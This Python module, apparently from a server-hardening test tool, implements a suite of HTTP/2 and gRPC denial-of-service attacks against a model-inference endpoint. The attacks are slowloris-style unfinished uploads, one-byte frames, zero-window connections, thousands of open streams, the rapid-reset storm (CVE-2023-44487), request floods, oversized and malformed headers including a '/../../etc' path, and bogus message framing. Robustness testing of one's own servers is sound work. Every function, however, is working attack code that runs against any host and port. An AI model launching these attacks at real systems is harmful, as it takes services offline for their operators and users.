"""Calls that are not as calls are: slow, unfinished, cancelled, late, unread, with headers without bound."""

import contextlib
import itertools
import struct
import time

from ..attack import Strike, attack
from ..http2 import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    RST_STREAM,
    Http2Connection,
    call_headers,
    frame,
    grpc_message,
    literal,
)
from .many_calls import send_calls
from .noting import note_frames

__all__ = ["ATTACKS"]

_SLOW = "slow and unfinished calls"
_STORMS = "storms"
_HEADERS = "headers without bound"
_FRAMING = "messages that are framed wrongly"

_LARGE, _PART = 15_000_000, 1 << 18  # bytes

_CANCEL = struct.pack(">I", 8)


def _opened(strike: Strike, stream: int, *more: tuple[str, str]) -> bytes:
    block = call_headers(strike.target.path("ModelInfer"), *more)
    return frame(HEADERS, END_HEADERS, stream, block)


@attack(_SLOW)
def unfinished_messages(strike: Strike) -> None:
    """40 connections that send all of a message of 15 MB but its last byte, and wait."""
    message = grpc_message(bytes(_LARGE))[:-1]
    with contextlib.ExitStack() as held:
        connections = [held.enter_context(Http2Connection(strike.target.host, strike.target.port)) for _ in range(40)]
        sent = [0] * len(connections)
        for connection in connections:
            connection.send(_opened(strike, 1), strike.until)
        while strike.left() and min(sent) < len(message):
            for at, connection in enumerate(connections):  # a part at a time, so that all of them grow
                part = message[sent[at] : sent[at] + _PART]
                sent[at] += connection.send_data(1, part, min(strike.until, time.monotonic() + 0.05))
        time.sleep(strike.left())
        strike.answers.note("SENT", f"{sum(sent) >> 20} MB")
        for connection in connections:
            note_frames(strike.answers, connection)


@attack(_SLOW)
def one_byte_at_a_time(strike: Strike) -> None:
    """A valid request, a frame for each byte, on 32 streams in turn, without its end."""
    with Http2Connection(strike.target.host, strike.target.port) as connection:
        message = grpc_message(strike.target.valid)[:-1]
        streams = range(1, 64, 2)
        connection.send(b"".join(_opened(strike, stream) for stream in streams), strike.until)
        for byte in message:
            frames = b"".join(frame(DATA, 0, stream, bytes([byte])) for stream in streams)
            if not connection.send(frames, strike.until):
                break
        note_frames(strike.answers, connection)


@attack(_SLOW)
def unread_answers(strike: Strike) -> None:
    """64 requests of 480 kB whose answers are large, on a connection that opens no window for them."""
    request = strike.target.request(512, 120)
    message = grpc_message(request.SerializeToString())
    with Http2Connection(strike.target.host, strike.target.port, ((INITIAL_WINDOW_SIZE, 0),)) as connection:
        send_calls(strike, connection, message, 64)


@attack(_SLOW)
def unfinished_streams(strike: Strike) -> None:
    """10,000 calls on one connection that send headers and nothing else."""
    with Http2Connection(strike.target.host, strike.target.port) as connection:
        for first in range(1, 20_000, 200):
            opened = b"".join(_opened(strike, stream) for stream in range(first, first + 200, 2))
            if not connection.send(opened, strike.until):
                break
        note_frames(strike.answers, connection)


@attack(_SLOW)
def message_streams(strike: Strike) -> None:
    """1,000 calls of ModelStreamInfer that send a valid request each and never end."""
    block = call_headers(strike.target.path("ModelStreamInfer"))
    message = grpc_message(strike.target.valid)
    with Http2Connection(strike.target.host, strike.target.port) as connection:
        for stream in range(1, 2000, 2):
            sent = frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, message)
            if not connection.send(sent, strike.until):
                break
        note_frames(strike.answers, connection)


@attack(_STORMS)
def rapid_reset(strike: Strike) -> None:
    """Calls that are reset as soon as they are made, without end (CVE-2023-44487)."""
    message = grpc_message(strike.target.valid)
    with Http2Connection(strike.target.host, strike.target.port) as connection:
        for first in itertools.count(1, 100):
            sent = b"".join(
                _opened(strike, stream)
                + frame(DATA, END_STREAM, stream, message)
                + frame(RST_STREAM, 0, stream, _CANCEL)
                for stream in range(first, first + 100, 2)
            )
            if not connection.send(sent, strike.until):
                break
        note_frames(strike.answers, connection)


@attack(_STORMS)
def deadlines_of_a_millisecond(strike: Strike) -> None:
    """Valid requests that may take a millisecond, 256 in flight."""
    strike.flood("ModelInfer", itertools.repeat(strike.target.valid), in_flight=256, timeout=0.001)


@attack(_STORMS)
def valid_requests(strike: Strike) -> None:
    """Valid requests, 1,024 in flight."""
    strike.flood("ModelInfer", itertools.repeat(strike.target.valid), in_flight=1024)


@attack(_STORMS)
def other_methods(strike: Strike) -> None:
    """Statistics, metadata, config and index, 512 in flight."""
    for method in itertools.cycle(("ModelStatistics", "ModelMetadata", "ModelConfig", "RepositoryIndex")):
        if not strike.left():
            return
        name = strike.target.model.encode()
        payload = b"" if method == "RepositoryIndex" else b"\x0a" + bytes([len(name)]) + name
        strike.flood(method, itertools.repeat(payload, 512), in_flight=512)


@attack(_HEADERS)
def huge_metadata(strike: Strike) -> None:
    """Metadata of 16 kB, of 1 MB and of 10,000 keys."""
    with Http2Connection(strike.target.host, strike.target.port) as connection:
        values = [literal("x-key", "y" * 16_000), b"".join(literal(f"x-{n}", "y") for n in range(1_000))]
        for stream, more in enumerate(values * 20):
            block = call_headers(strike.target.path("ModelInfer")) + more
            message = frame(DATA, END_STREAM, 2 * stream + 1, grpc_message(strike.target.valid))
            if len(block) >= 1 << 14:
                block = block[: 1 << 14]
            if not connection.send(frame(HEADERS, END_HEADERS, 2 * stream + 1, block) + message, strike.until):
                break
        note_frames(strike.answers, connection)
    for value in (("x-key", "y" * 1_000_000), *[("x-other", "z" * 7_000)] * 5):
        strike.flood("ModelInfer", [strike.target.valid] * 20, metadata=(value,))


@attack(_HEADERS)
def odd_headers(strike: Strike) -> None:
    """Time-outs, encodings and paths that no client writes."""
    more = [
        ("grpc-timeout", "99999999H"), ("grpc-timeout", "-1S"), ("grpc-timeout", "1" * 500 + "S"),
        ("grpc-timeout", "0n"), ("grpc-timeout", ""), ("grpc-encoding", "none-such"), ("grpc-encoding", "deflate"),
        ("grpc-encoding", "x" * 5000), ("content-encoding", "gzip"), ("grpc-accept-encoding", "," * 9000),
        ("x-bin", "!!!"), ("x", "\0"), ("X-UPPER", "a"), (":path", "/again"), (":unknown", "x"),
        ("connection", "close"), ("transfer-encoding", "chunked"),
    ]  # fmt: skip
    data = frame(DATA, END_STREAM, 1, grpc_message(strike.target.valid))
    for field in more:
        if not strike.left():
            return
        with Http2Connection(strike.target.host, strike.target.port) as connection:
            connection.send(_opened(strike, 1, field) + data, strike.until)
            note_frames(strike.answers, connection, calls=1)
    for path in (
        "",
        "/",
        "//",
        "*",
        "ModelInfer",
        "/inference.GRPCInferenceService/",
        "/" + "x" * 15_000,
        "/../../etc",
    ):
        with Http2Connection(strike.target.host, strike.target.port) as connection:
            connection.send(frame(HEADERS, END_HEADERS, 1, call_headers(path)) + data, strike.until)
            note_frames(strike.answers, connection, calls=1)


@attack(_FRAMING)
def sizes_of_messages(strike: Strike) -> None:
    """A message that says 4 GB, one of none, two in a unary call, the flag of compression without an encoding."""
    valid = strike.target.valid
    for data in (
        grpc_message(valid, 2**32 - 1), grpc_message(valid, len(valid) + 1), grpc_message(valid, 0), b"", b"\0\0",
        b"\0" * 5, grpc_message(valid) * 2, grpc_message(valid) + b"\0", grpc_message(valid, flag=1),
        grpc_message(valid, flag=255),
    ):  # fmt: skip
        for is_ended in (True, False):
            if not strike.left():
                return
            with Http2Connection(strike.target.host, strike.target.port) as connection:
                flags = END_STREAM if is_ended else 0
                connection.send(_opened(strike, 1) + frame(DATA, flags, 1, data), strike.until)
                note_frames(strike.answers, connection, calls=1)


ATTACKS = (
    unfinished_messages, one_byte_at_a_time, unread_answers, unfinished_streams, message_streams, rapid_reset,
    deadlines_of_a_millisecond, valid_requests, other_methods, huge_metadata, odd_headers, sizes_of_messages,
)  # fmt: skip
